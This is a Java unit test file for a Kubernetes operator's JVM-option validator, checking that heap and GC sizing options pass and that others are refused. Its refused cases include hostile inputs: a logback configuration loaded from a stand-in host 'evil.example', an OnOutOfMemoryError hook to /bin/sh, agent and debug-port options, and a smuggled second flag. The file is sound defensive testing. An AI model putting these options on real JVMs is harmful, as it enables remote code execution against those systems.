package dev.schedulerops.operator.validation;

import static org.assertj.core.api.Assertions.assertThat;

import dev.schedulerops.operator.api.JvmSpec;
import dev.schedulerops.operator.render.Samples;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** spec.extender.jvm: what the Java validator refuses, with the CRD's messages. */
class JvmRulesTest {

    private static List<String> errors(String spec) {
        return ProfileValidator.validate(Samples.profile(spec), Samples.FACTS);
    }

    @Test
    void heapPercentageAndOrdinaryOptionsAreValid() {
        assertThat(
                        errors(
                                """
                labelKey: k
                extender:
                  jvm:
                    maxRAMPercentage: 60
                    options: [-XX:+UseSerialGC, -Xss512k, -Dfile.encoding=UTF-8, -XX:MaxGCPauseMillis=50]
                """))
                .isEmpty();
    }

    static Stream<Arguments> refused() {
        String notAllowed = "JVM options are limited to heap and GC sizing";
        return Stream.of(
                Arguments.of(
                        "{maxRAMPercentage: 95}",
                        "spec.extender.jvm.maxRAMPercentage: Invalid value: 95: must be between 10 and 90"),
                Arguments.of("{maxRAMPercentage: 5}", "must be between 10 and 90"),
                Arguments.of(
                        "{options: [UseSerialGC]}", "spec.extender.jvm.options[0]: Invalid value: \"UseSerialGC\""),
                Arguments.of("{options: [\"-Dx=1 -javaagent:/a.jar\"]}", notAllowed),
                Arguments.of(
                        "{options: [\"-Dx=" + "y".repeat(300) + "\"]}",
                        "options[0]: Too long: may not be longer than 256"),
                // The review's finding: a remote logging configuration is code execution with logback's CVEs.
                Arguments.of("{options: [\"-Dlogback.configurationFile=http://evil.example/l.xml\"]}", notAllowed),
                Arguments.of("{options: [-javaagent:/tmp/a.jar]}", notAllowed),
                Arguments.of("{options: [-Xss1m, \"-agentlib:jdwp=transport=dt_socket\"]}", "options[1]"),
                Arguments.of("{options: [-agentpath:/lib/a.so]}", notAllowed),
                Arguments.of("{options: [-Xrunjdwp:server=y]}", notAllowed),
                Arguments.of("{options: [-XX:VMOptionsFile=/etc/opts]}", notAllowed),
                Arguments.of("{options: [\"-XX:OnOutOfMemoryError=/bin/sh\"]}", notAllowed),
                Arguments.of("{options: [-Dcom.sun.management.jmxremote.port=9999]}", notAllowed),
                Arguments.of("{options: [-XX:MaxRAMPercentage=95]}", "the maximum heap is maxRAMPercentage"),
                Arguments.of("{options: [-Xmx2g]}", notAllowed),
                Arguments.of("{options: [-Xbootclasspath/a:/tmp/x.jar]}", notAllowed),
                Arguments.of("{options: [-XX:+HeapDumpOnOutOfMemoryError]}", notAllowed),
                Arguments.of("{options: [\"-Xlog:gc*:file=/tmp/gc.log\"]}", notAllowed),
                Arguments.of("{options: [-Djava.class.path=/tmp]}", notAllowed),
                Arguments.of("{options: [-Djava.net.preferIPv4Stack=maybe]}", notAllowed),
                Arguments.of("{options: [\"-Dx=a\\u000Bb\"]}", notAllowed),
                Arguments.of("{options: [-XX:Flags=/etc/flags]}", notAllowed),
                Arguments.of("{options: [null]}", "spec.extender.jvm.options[0]: Required value"),
                Arguments.of("{options: [" + "-Xss1m, ".repeat(17) + "]}", "must have at most 16 items"));
    }

    /** Every family the allowlist names, as a user would write it. */
    @Test
    void theAllowedFamiliesPass() {
        for (String option : List.of(
                "-Xss512k",
                "-Xmn64m",
                "-XX:InitialRAMPercentage=50",
                "-XX:MinRAMPercentage=12.5",
                "-XX:MaxMetaspaceSize=128m",
                "-XX:ReservedCodeCacheSize=32m",
                "-XX:MaxDirectMemorySize=64m",
                "-XX:MaxGCPauseMillis=50",
                "-XX:ParallelGCThreads=2",
                "-XX:ActiveProcessorCount=2",
                "-XX:TieredStopAtLevel=1",
                "-XX:+UseSerialGC",
                "-XX:-UseG1GC",
                "-XX:+UseZGC",
                "-XX:+AlwaysPreTouch",
                "-Xlog:gc",
                "-Xlog:gc*",
                "-Xlog:gc+heap=debug:stdout",
                "-Xlog:gc*:stdout:time,uptime,level,tags",
                "-Djava.net.preferIPv4Stack=true",
                "-Dsun.net.inetaddr.ttl=30",
                "-Duser.timezone=Europe/Berlin",
                "-Dfile.encoding=UTF-8")) {
            assertThat(errors("labelKey: k\nextender: {jvm: {options: [\"" + option + "\"]}}"))
                    .as(option)
                    .isEmpty();
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void badJvmSettingsAreRefusedWithAMessage(String jvm, String expected) {
        assertThat(errors("labelKey: k\nextender: {jvm: " + jvm + "}"))
                .as("errors of %s", jvm)
                .anySatisfy(e -> assertThat(e).contains(expected));
    }

    /** The CRD's CEL rule is the very expression the Java rule matches with. */
    @Test
    void theCelRuleIsTheJavaRule() {
        assertThat(JvmSpec.OPTIONS_RULE).isEqualTo("self.all(o, o.matches('" + JvmSpec.ALLOWED_OPTION + "'))");
        assertThat(JvmSpec.ALLOWED_OPTION)
                .doesNotContain("\\", "'")
                .startsWith("^(")
                .endsWith(")$");
    }
}
